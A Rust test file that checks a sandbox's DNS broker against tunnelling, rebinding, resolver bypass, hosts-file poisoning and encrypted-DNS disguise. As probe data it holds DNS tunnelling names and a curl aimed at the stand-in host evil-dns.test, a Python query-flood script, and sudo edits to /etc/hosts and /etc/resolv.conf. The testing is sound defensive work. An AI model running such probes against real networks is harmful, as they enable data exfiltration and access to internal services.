//! Cases 64 to 76: DNS.

use bivouac_testkit::NameAnswer;
use serde_json::{Value, json};

use crate::tools::{PLAYED, attack};
use crate::{Bed, fresh};

const GATE: &str = "10.254.0.1";

fn answers(answer: &Value) -> Vec<String> {
    let list = answer["answers"].as_array().map_or(&[][..], Vec::as_slice);
    list.iter().map(|a| a["data"].as_str().unwrap_or_default().to_owned()).collect()
}

#[tokio::test]
async fn cases_64_and_73_denied_names_never_leave_the_host() {
    let bed = Bed::new().await;
    let name = fresh("ok.test");
    let sandbox = bed.sandbox(json!({"allow": [name]})).await;
    for kind in ["A", "AAAA", "TXT", "NULL", "ANY", "HTTPS"] {
        let tunnel = format!("deadbeef.{kind}.evil-dns.test").to_lowercase();
        let answer = attack(&sandbox, &["dns", GATE, &tunnel, kind]).await;
        assert_eq!(answer["code"], 3, "{kind}: {answer}");
    }
    // The answer says why, for whoever looks at it.
    let answer = attack(&sandbox, &["dns", GATE, "why.evil-dns.test", "A"]).await;
    assert!(
        answer["ede"]["text"]
            .as_str()
            .is_some_and(|t| t.contains("why.evil-dns.test") || t.contains("polic")),
        "{answer}"
    );
    let ran = sandbox.sh("curl -sS -m 5 https://through-libc.evil-dns.test/").await;
    assert_ne!(ran.exit, Some(0));
    assert!(bed.queries().iter().all(|q| !q.name.ends_with("evil-dns.test")));
    assert!(bed.wire().holding("evil-dns").is_empty());
}

#[tokio::test]
async fn case_65_names_below_an_allowed_wildcard_are_asked_for_and_limited() {
    let bed = Bed::new().await;
    let base = fresh("wild.test");
    bed.name(&format!("*.{base}"), &["198.51.100.10"]);
    let sandbox = bed.sandbox(json!({"allow": [format!("*.{base}")]})).await;
    let answer = attack(&sandbox, &["dns", GATE, &format!("a.{base}"), "A"]).await;
    assert_eq!(answers(&answer), ["198.51.100.10"]);
    // A flood of names of their own is cut off before it has carried much.
    let script = format!(
        "import socket,struct\n\
        s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n\
        for i in range(5000):\n\
        \x20n='x%d.{base}'%i\n\
        \x20q=struct.pack('>6H',i,256,1,0,0,0)+b''.join(bytes([len(l)])+l.encode() for l in n.split('.'))+b'\\0\\0\\1\\0\\1'\n\
        \x20s.sendto(q,('{GATE}',53))"
    );
    let _ = sandbox.run(&["python3", "-c", &script]).await.good();
    let asked = bed.queries().iter().filter(|q| q.name.ends_with(&base)).count();
    assert!(asked < 2500, "{asked} of 5000 names left the host");
}

#[tokio::test]
async fn case_66_only_addresses_are_answered() {
    let bed = Bed::new().await;
    let name = fresh("ok.test");
    bed.name(&name, &["198.51.100.10", "2001:db8:7::10"]);
    let sandbox = bed.sandbox(json!({"allow": [name]})).await;
    for (kind, wanted) in
        [("A", 1), ("AAAA", 1), ("TXT", 0), ("NULL", 0), ("HTTPS", 0), ("SVCB", 0), ("ANY", 0)]
    {
        let answer = attack(&sandbox, &["dns", GATE, &name, kind]).await;
        assert_eq!(answers(&answer).len(), wanted, "{kind}: {answer}");
    }
    let kinds: Vec<_> = bed.queries().iter().filter(|q| q.name == name).map(|q| q.kind).collect();
    assert!(kinds.iter().all(|kind| [1, 28].contains(kind)), "{kinds:?}");
}

#[tokio::test]
async fn case_67_whatever_resolver_is_asked_the_broker_answers() {
    let bed = Bed::new().await;
    let name = fresh("ok.test");
    bed.name(&name, &["198.51.100.10"]);
    let sandbox = bed.sandbox(json!({"allow": [name]})).await;
    for server in ["9.9.9.9", "203.0.113.53", "169.254.169.253", "2001:db8:7::53", GATE] {
        for how in ["udp", "tcp"] {
            let answer = attack(&sandbox, &["dns", server, &name, "A", how]).await;
            assert_eq!(answers(&answer), ["198.51.100.10"], "{server} {how}: {answer}");
            let answer = attack(&sandbox, &["dns", server, "denied.evil-dns.test", "A", how]).await;
            assert_eq!(answer["code"], 3, "{server} {how}: {answer}");
        }
    }
    for server in ["9.9.9.9", "203.0.113.53", "169.254.169.253", "2001:db8:7::53"] {
        assert!(bed.wire().to(server).is_empty(), "{server}");
    }
}

#[tokio::test]
async fn case_68_dns_in_disguise_is_denied() {
    let bed = Bed::new().await;
    let sandbox = bed.sandbox(json!({"allow": [fresh("ok.test")]})).await;
    let dot = attack(&sandbox, &["tls", "203.0.113.168", "853", "dns.evil.test", "x"]).await;
    assert_eq!(dot["handshake"], false, "{dot}");
    let doq = attack(&sandbox, &["udp", "203.0.113.168", "853", "x"]).await;
    assert_eq!(doq["answered"], false, "{doq}");
    assert!(bed.wire().to("203.0.113.168").is_empty());
}

#[tokio::test]
async fn case_69_a_name_that_points_inside_is_neither_answered_nor_dialled() {
    let bed = Bed::new().await;
    let inside = [
        "127.0.0.1",
        "10.9.9.9",
        "169.254.169.254",
        "::1",
        "fd00:ec2::254",
        "::ffff:10.9.9.9",
        "198.51.100.1",
    ];
    for (i, address) in inside.into_iter().enumerate() {
        let name = fresh("rebind.test");
        bed.name(&name, &[address]);
        for policy in
            [json!({"allow": [name]}), json!({"mode": "allow-all"}), json!({"allow": {"*": []}})]
        {
            let sandbox = bed.sandbox(policy).await;
            let answer = attack(&sandbox, &["hello", PLAYED, &name, "whole"]).await;
            if address != "198.51.100.1" {
                let asked = attack(
                    &sandbox,
                    &["dns", GATE, &name, if address.contains(':') { "AAAA" } else { "A" }],
                )
                .await;
                assert!(answers(&asked).is_empty(), "{address}: {asked}");
            }
            // In allow-all the guest's own address counts: that is an ordinary one here.
            let _ = answer;
        }
        let _ = i;
        let plain = address.strip_prefix("::ffff:").unwrap_or(address);
        assert!(bed.wire().to(plain).is_empty(), "{address}");
    }
}

#[tokio::test]
async fn case_70_an_address_that_was_checked_is_the_one_that_is_dialled() {
    let bed = Bed::new().await;
    for i in 0..5 {
        let name = fresh("flip.test");
        let (good, bad) =
            (vec!["198.51.100.10".parse().unwrap()], vec!["10.9.9.70".parse().unwrap()]);
        let flip =
            if i % 2 == 0 { NameAnswer::Flip(good, bad) } else { NameAnswer::Flip(bad, good) };
        bed.answer(&name, flip);
        let sandbox = bed.sandbox(json!({"allow": [name]})).await;
        for _ in 0..4 {
            let _ = attack(&sandbox, &["hello", PLAYED, &name, "whole"]).await;
            let _ = attack(&sandbox, &["dns", GATE, &name, "A"]).await;
        }
    }
    assert!(bed.wire().to("10.9.9.70").is_empty());
}

#[tokio::test]
async fn case_71_the_end_of_a_chain_of_aliases_counts() {
    let bed = Bed::new().await;
    let (listed, inner, target) = (fresh("alias.test"), fresh("private.test"), fresh("cdn.test"));
    bed.name(&inner, &["10.9.9.71"]);
    bed.name(&target, &["198.51.100.10"]);
    bed.answer(&listed, NameAnswer::Alias(inner));
    let good = fresh("alias.test");
    bed.answer(&good, NameAnswer::Alias(target));
    let sandbox = bed.sandbox(json!({"allow": [listed, good]})).await;
    let answer = attack(&sandbox, &["hello", PLAYED, &listed, "whole"]).await;
    assert_eq!(answer["answered"], false, "{answer}");
    let answer = attack(&sandbox, &["hello", PLAYED, &good, "whole"]).await;
    assert_eq!(answer["answered"], true, "{answer}");
    assert!(bed.wire().to("10.9.9.71").is_empty());
}

#[tokio::test]
async fn case_72_what_the_sandbox_believes_of_a_name_does_not_matter() {
    let bed = Bed::new().await;
    let name = fresh("ok.test");
    bed.name(&name, &["198.51.100.10"]);
    let sandbox = bed.sandbox(json!({"allow": [name]})).await;
    let ran = sandbox
        .sudo(&format!("echo 203.0.113.172 {name} >> /etc/hosts && getent hosts {name}"))
        .await;
    assert!(ran.good().contains("203.0.113.172"));
    let ran = sandbox.sh(&format!("curl -ksS -m 5 https://{name}/poisoned")).await;
    assert!(ran.good().contains("/poisoned"), "{}", ran.err());
    assert!(bed.wire().to("203.0.113.172").is_empty());
}

#[tokio::test]
async fn case_74_a_denied_name_is_not_asked_for_elsewhere() {
    let bed = Bed::new().await;
    let sandbox = bed.sandbox(json!({"allow": [fresh("ok.test")]})).await;
    let line = "printf 'nameserver 9.9.9.9\\nnameserver 203.0.113.174\\nnameserver 10.254.0.1\\n' > /tmp/r && \
        (cat /tmp/r > /etc/resolv.conf || true); getent hosts next.evil-dns.test; echo code $?";
    let ran = sandbox.sudo(line).await;
    assert!(ran.out().ends_with("code 2"), "{}", ran.out());
    assert!(bed.queries().iter().all(|q| q.name != "next.evil-dns.test"));
}

#[tokio::test]
async fn case_75_ranges_alone_do_not_open_dns_unless_asked_for() {
    let bed = Bed::new().await;
    let name = fresh("ok.test");
    bed.name(&name, &["198.51.100.10"]);
    let sandbox = bed.sandbox(json!({"subnets": {"allow": ["203.0.113.0/24"]}})).await;
    let answer = attack(&sandbox, &["dns", GATE, &name, "A"]).await;
    assert!(answers(&answer).is_empty(), "{answer}");
    assert!(bed.queries().iter().all(|q| q.name != name));
    let open = json!({"subnets": {"allow": ["203.0.113.0/24"]}, "dns": "open"});
    bed.set(&sandbox, &open).await;
    let answer = attack(&sandbox, &["dns", GATE, &name, "A"]).await;
    assert_eq!(answers(&answer), ["198.51.100.10"], "{answer}");
}
